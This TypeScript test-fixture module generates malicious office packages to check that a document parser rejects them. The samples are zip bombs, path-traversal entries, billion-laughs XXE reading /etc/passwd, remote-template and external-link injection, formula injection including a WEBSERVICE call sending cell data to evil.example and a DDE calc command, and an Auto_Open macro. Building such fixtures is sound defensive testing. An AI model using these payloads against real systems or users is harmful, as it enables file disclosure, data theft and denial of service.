import { strToU8, unzipSync, zipSync } from 'fflate';
import { generateDisclosure } from '../generator/generate-disclosure.ts';
import { toDocx } from '../generator/writers/to-docx.ts';
import { toOfd } from '../generator/writers/to-ofd.ts';
import { toXlsLike } from '../generator/writers/to-xls-like.ts';
import { toXlsx } from '../generator/writers/to-xlsx.ts';
import type { HostileFile } from './hostile-files.ts';

const disclosure = generateDisclosure({ seed: 4, template: 'guangxi', scope: 'unit' });
const text = (part: Uint8Array | undefined): string => Buffer.from(part ?? []).toString('utf8');

/** A sound package with parts changed; `null` takes a part away. */
function changed(whole: Uint8Array, change: (parts: Record<string, Uint8Array>) => Readonly<Record<string, Uint8Array | string | null>>): Uint8Array {
  const parts = unzipSync(whole);
  const entries = Object.entries({ ...parts, ...change(parts) }).filter((entry): entry is [string, Uint8Array | string] => entry[1] !== null);
  return zipSync(Object.fromEntries(entries.map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])), { level: 6 });
}
const xlsx = (): Uint8Array => toXlsx(disclosure);
const docx = (): Uint8Array => toDocx(disclosure, { numbered: true, split: false, tracked: false });
const ods = (): Uint8Array => toXlsLike(disclosure, 'ods');
const SHEET = 'xl/worksheets/sheet2.xml';

/** Entities that expand a billionfold, and one that names a file. */
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(50)}">${Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index} "${`&a${index === 0 ? '' : index - 1};`.repeat(10)}">`).join('')}<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://evil.example/x">]>`;
const laughing = (part: Uint8Array | undefined): string => text(part).replace(/^(<\?xml[^>]*\?>)?/, (head) => `${head}${LAUGHS}`).replace(/>([^<>&]{2,})</, '>&a8;&f;&h;$1<');

/** A part that expands to this many megabytes of blanks. */
const blanks = (megabytes: number): Uint8Array => new Uint8Array(megabytes * 1024 * 1024).fill(0x20);
const sheetWith = (rows: string, before = ''): string => `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${before}<sheetData>${rows}</sheetData></worksheet>`;
const cell = (at: string): string => `<row r="${/\d+$/.exec(at)?.[0] ?? 1}"><c r="${at}" t="inlineStr"><is><t>1.00</t></is></c></row>`;

/** Workbooks, word files and OFD by what is wrong with them. */
export const HOSTILE_PACKAGES: readonly HostileFile[] = [
  { name: '压缩炸弹.xlsx', ends: ['file-too-large'], bytes: () => changed(xlsx(), () => ({ [SHEET]: blanks(300) })) },
  { name: '压缩炸弹.docx', ends: ['file-too-large'], bytes: () => changed(docx(), () => ({ 'word/document.xml': blanks(300) })) },
  { name: '压缩炸弹.ods', ends: ['file-too-large'], bytes: () => changed(ods(), () => ({ 'content.xml': blanks(300) })) },
  { name: '压缩炸弹.ofd', ends: ['read', 'file-too-large', 'damaged-file'], bytes: () => changed(toOfd(disclosure), (parts) => ({ [Object.keys(parts).find((name) => /Content\.xml$/.test(name)) ?? '']: blanks(300) })) },
  { name: '套娃.xlsx', ends: ['damaged-file', 'unsupported-format'], bytes: () => Array.from({ length: 8 }).reduce<Uint8Array>((inner) => zipSync({ 'a.xlsx': inner }), xlsx()) },
  { name: '套娃.zip', ends: ['unsupported-format'], bytes: () => zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ 'c.xlsx': xlsx() }) }) }) },
  { name: '两万部件.xlsx', ends: ['file-too-large', 'read'], bytes: () => changed(xlsx(), () => Object.fromEntries(Array.from({ length: 21_000 }, (_, index) => [`xl/media/${index}.png`, 'x']))) },
  { name: '路径穿越.xlsx', ends: ['read'], bytes: () => changed(xlsx(), () => ({ '../../../../tmp/gouji-escaped.xml': 'x', '/etc/gouji-escaped': 'x' })) },
  { name: '实体展开.xlsx', ends: ['read', 'damaged-file', 'no-text'], bytes: () => changed(xlsx(), (parts) => ({ [SHEET]: laughing(parts[SHEET]), 'xl/sharedStrings.xml': laughing(parts['xl/sharedStrings.xml']) })) },
  { name: '实体展开.docx', ends: ['read', 'damaged-file', 'no-text'], bytes: () => changed(docx(), (parts) => ({ 'word/document.xml': laughing(parts['word/document.xml']) })) },
  { name: '实体展开.ods', ends: ['read', 'damaged-file', 'no-text'], bytes: () => changed(ods(), (parts) => ({ 'content.xml': laughing(parts['content.xml']) })) },
  { name: '实体展开.ofd', ends: ['read', 'damaged-file', 'no-text'], bytes: () => changed(toOfd(disclosure), (parts) => Object.fromEntries(Object.entries(parts).filter(([name]) => /Content\.xml$/.test(name)).map(([name, part]) => [name, laughing(part)]))) },
  { name: '尺寸谎言.xlsx', ends: ['read'], bytes: () => changed(xlsx(), () => ({ [SHEET]: sheetWith(cell('A1') + cell('XFD1048576'), '<dimension ref="A1:XFD1048576"/>') })) },
  { name: '行号无穷.xlsx', ends: ['read', 'damaged-file'], bytes: () => changed(xlsx(), () => ({ [SHEET]: sheetWith(cell('A1') + cell('ZZZZZZ99999999999')) })) },
  { name: '合并整张表.xlsx', ends: ['read'], bytes: () => changed(xlsx(), () => ({ [SHEET]: sheetWith(cell('A1')).replace('</worksheet>', `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(200)}</mergeCells></worksheet>`) })) },
  { name: '列宽到无穷.xlsx', ends: ['damaged-file'], bytes: () => changed(xlsx(), () => ({ [SHEET]: sheetWith(cell('A1'), '<cols><col min="1" max="2147483647" width="9"/></cols>') })) },
  { name: '重复亿次.ods', ends: ['read', 'file-too-large'], bytes: () => changed(ods(), (parts) => ({ 'content.xml': text(parts['content.xml']).replace('<table:table-row', '<table:table-row table:number-rows-repeated="1048576"').replace('<table:table-cell', '<table:table-cell table:number-columns-repeated="16384"') })) },
  { name: '标签十万层.docx', ends: ['read', 'damaged-file', 'no-text', 'file-too-large'], bytes: () => changed(docx(), (parts) => ({ 'word/document.xml': text(parts['word/document.xml']).replace('<w:body>', `<w:body>${'<w:sdt><w:sdtContent>'.repeat(100_000)}`) })) },
  { name: '表中表两千层.docx', ends: ['read', 'damaged-file', 'no-text', 'file-too-large'], bytes: () => changed(docx(), (parts) => ({ 'word/document.xml': text(parts['word/document.xml']).replace('<w:body>', `<w:body>${'<w:tbl><w:tr><w:tc>'.repeat(2000)}<w:p><w:r><w:t>1.00</w:t></w:r></w:p>${'</w:tc></w:tr></w:tbl>'.repeat(2000)}`) })) },
  { name: '远程模板.docx', ends: ['read'], bytes: () => changed(docx(), (parts) => ({ 'word/_rels/document.xml.rels': text(parts['word/_rels/document.xml.rels']).replace('</Relationships>', '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/><Relationship Id="rId901" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="rId902" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="../../../../etc/passwd"/></Relationships>') })) },
  { name: '外部数据.xlsx', ends: ['read'], bytes: () => changed(xlsx(), () => ({ 'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>', 'xl/externalLinks/_rels/externalLink1.xml.rels': '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="http://evil.example/b.xlsx" TargetMode="External"/></Relationships>', 'xl/connections.xml': '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://evil.example/"/></connection></connections>' })) },
  { name: '公式外联.xlsx', ends: ['read'], bytes: () => changed(xlsx(), () => ({ [SHEET]: sheetWith(['WEBSERVICE("http://evil.example/"&amp;A1)', 'HYPERLINK("http://evil.example/","x")', "cmd|' /C calc'!A0", "'[http://evil.example/b.xlsx]a'!A1"].map((formula, index) => `<row r="${index + 1}"><c r="A${index + 1}"><f>${formula}</f><v>${index}</v></c></row>`).join('')) })) },
  { name: '宏.xlsm', ends: ['read'], bytes: () => changed(xlsx(), () => ({ 'xl/vbaProject.bin': 'Sub Auto_Open()\nShell "calc"\nEnd Sub', 'xl/embeddings/oleObject1.bin': 'MZ' })) },
];
